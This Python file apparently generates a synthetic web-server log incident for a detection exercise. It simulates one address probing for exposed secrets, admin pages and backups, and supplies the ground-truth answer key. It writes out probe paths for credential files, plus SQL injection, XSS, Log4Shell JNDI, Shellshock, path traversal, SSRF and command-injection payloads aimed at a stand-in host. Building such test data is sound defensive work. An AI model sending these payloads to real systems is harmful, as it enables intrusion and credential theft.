"""C. One address tries what is lying about: dot files, backups, other people's admin pages, a few injections.

One thing answers that should not.
"""

from __future__ import annotations

from collections.abc import Iterator

from data.generator.catalog import KINDS, WEB, Kind
from data.generator.clock import DAY, HOUR, at, iso
from data.generator.dice import Dice
from data.generator.incidents import Incident
from data.generator.log import Log
from data.generator.machines import OFFICE
from data.generator.traffic import Connection, Request
from data.generator.viewers import TLS13, named

SCANNER = "198.51.100.77"
BEGINS, ENDS = at("2026-03-05 03:10"), at("2026-03-05 03:40")
LEAK = "/.git/HEAD"
_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36"
_OPEN = (("/", 21_300), ("/robots.txt", 118), ("/sitemap.xml", 41_770), ("/login", 8_900), ("/.well-known/security.txt", 230), (LEAK, 23))
_DOT = (
    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/.git/config", "/.git/index", "/.gitignore", "/.svn/entries", "/.hg/store",
    "/.DS_Store", "/.htaccess", "/.htpasswd", "/.aws/credentials", "/.aws/config", "/.ssh/id_rsa", "/.ssh/authorized_keys", "/.npmrc",
    "/.dockercfg", "/.docker/config.json", "/.vscode/sftp.json", "/.idea/workspace.xml", "/.bash_history", "/.profile", "/.netrc",
    "/.kube/config",
)  # fmt: skip
_ADMIN = (
    "/wp-login.php", "/wp-admin/", "/wp-config.php", "/wp-config.php.bak", "/wp-content/debug.log", "/xmlrpc.php", "/wp-json/wp/v2/users",
    "/administrator/", "/admin/", "/admin/login", "/admin.php", "/phpmyadmin/", "/pma/", "/mysql/", "/adminer.php", "/phpinfo.php",
    "/info.php", "/test.php", "/shell.php", "/c99.php", "/server-status", "/server-info", "/actuator", "/actuator/env",
    "/actuator/heapdump", "/actuator/health", "/jenkins/", "/manager/html", "/solr/", "/console/", "/debug/default/view",
    "/_profiler/phpinfo", "/telescope/requests", "/horizon/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci",
    "/cgi-bin/.%2e/%2e%2e/bin/sh", "/boaform/admin/formLogin", "/HNAP1", "/owa/auth/logon.aspx", "/remote/login", "/api/v1/pods",
    "/v2/_catalog", "/graphql", "/swagger-ui.html", "/api-docs", "/openapi.json", "/config.json", "/package.json", "/composer.json",
    "/Dockerfile", "/docker-compose.yml",
)  # fmt: skip
_NAMES = (
    "backup", "db", "dump", "site", "www", "shop", "database", "config", "old", "test", "prod", "dev", "data", "sql", "users", "export",
    "archive", "web", "htdocs", "public", "app", "source", "secret", "credentials", "private", "orders", "customers",
)  # fmt: skip
_ENDINGS = (".zip", ".sql", ".tar.gz", ".bak", ".rar", ".7z", ".sql.gz", ".old", ".json", ".yml")
_INJECTIONS = (
    "q=%27%20OR%201%3D1--", "q=1%20UNION%20SELECT%20username,password%20FROM%20users", "q=%3Cscript%3Ealert(1)%3C/script%3E",
    "q=${jndi:ldap://198.51.100.77:1389/a}",
    "file=../../../../etc/passwd", "page=..%2f..%2f..%2fetc%2fpasswd", "url=http://169.254.169.254/latest/meta-data/",
    "q={{7*7}}", "cmd=id;cat%20/etc/passwd",
)  # fmt: skip
_ODD_AGENTS = (
    "${jndi:ldap://198.51.100.77:1389/ua}",
    "<script>alert(document.domain)</script>",
    "() { :; }; /bin/ping -c 1 198.51.100.77",
    "",
)


def kind(path: str, query: str) -> Kind:
    files = {"/robots.txt": "text", "/.well-known/security.txt": "text", LEAK: "text", "/sitemap.xml": "sitemap"}
    return KINDS["search" if query else files.get(path, "personal")]


class ContentScan(Incident):
    id = "C"
    title = "content discovery from one address"

    def requests(self) -> Iterator[Request]:
        """The same 600 and more probes at every scale: a scanner's list does not grow with the shop."""
        seed = self.world.seed
        dice = Dice(seed, "scan")
        targets = [(path, "", 0) for path in (*_DOT, *_ADMIN, *(f"/{name}{ending}" for name in _NAMES for ending in _ENDINGS))]
        targets += [(dice.pick((*_DOT, *_ADMIN)), "", 0) for _ in range(260)]
        targets += [(path, "", size) for path, size in _OPEN]
        targets += [("/search", query, 7_480) for query in _INJECTIONS]
        places = sorted(range(len(targets)), key=lambda n: (Dice(seed, "scan order", n).unit(), n))
        plain = named(SCANNER, "NL", "AMS58-P5", _AGENT, "HTTP/2.0", TLS13)
        ask = Connection(seed, plain, "scan").ask
        step = (ENDS - BEGINS - 20_000) / len(targets)
        for turn, place in enumerate(places):
            path, query, size = targets[place]
            status = 200 if size else 403 if path.startswith("/.") or dice.chance(0.06) else 404
            request = ask(
                BEGINS + 4_000 + int(turn * step) + dice.below(1_500),
                WEB,
                kind(path, query),
                path,
                query=query,
                status=status,
                size=size or (919 if status == 403 else 6_120),
            )
            if turn % 40 == 17:
                odd = _ODD_AGENTS[turn // 40 % len(_ODD_AGENTS)]
                request.viewer = named(SCANNER, "NL", "AMS58-P5", odd, "HTTP/2.0", TLS13)
            if turn % 90 == 31:
                request.referer = 'https://www.shop.example/"><img src=x onerror=alert(1)>'
            yield request

    def truth(self, log: Log) -> dict[str, object]:
        scan = [a for a in log.answers if a.request.viewer.ip == SCANNER]
        refused = [a for a in scan if a.status in (403, 404)]
        office = [a for a in log.answers if a.request.viewer.ip == OFFICE]
        day = [a for a in log.window(at("2026-03-04"), at("2026-03-04") + DAY) if a.request.viewer.ip == OFFICE]
        hour = [a for a in log.window(at("2026-03-04 10:00"), at("2026-03-04 10:00") + HOUR) if a.request.viewer.ip == OFFICE]
        return {
            "id": self.id,
            "kind": "content_discovery",
            "title": self.title,
            "window": {"start": iso(BEGINS), "end": iso(ENDS)},
            "distribution": WEB,
            "client": SCANNER,
            "requests": len(scan),
            "by_status": log.counted(f"{a.status:03d}" for a in scan),
            "refused_403_404": len(refused),
            "distinct_paths": len({a.request.path for a in scan}),
            "distinct_refused_paths": len({a.request.path for a in refused}),
            "answered_200": sorted({a.request.path for a in scan if a.status == 200}),
            "leak": {
                "path": LEAK,
                "why": "answered 200: the repository folder is published; everything else that answered is meant to be public",
            },
            "near_misses": [
                {
                    "what": "an office behind one address: many requests, many paths, many user agents, ordinary statuses",
                    "client": OFFICE,
                    "requests": len(office),
                    "by_status": log.counted(f"{a.status:03d}" for a in office),
                    "requests_on_2026_03_04": len(day),
                    "requests_2026_03_04_10h": len(hour),
                    "distinct_paths": len({a.request.path for a in office}),
                    "distinct_user_agents": len({a.request.viewer.user_agent for a in office}),
                    "refused_403_404": sum(a.status in (403, 404) for a in office),
                },
            ],
        }
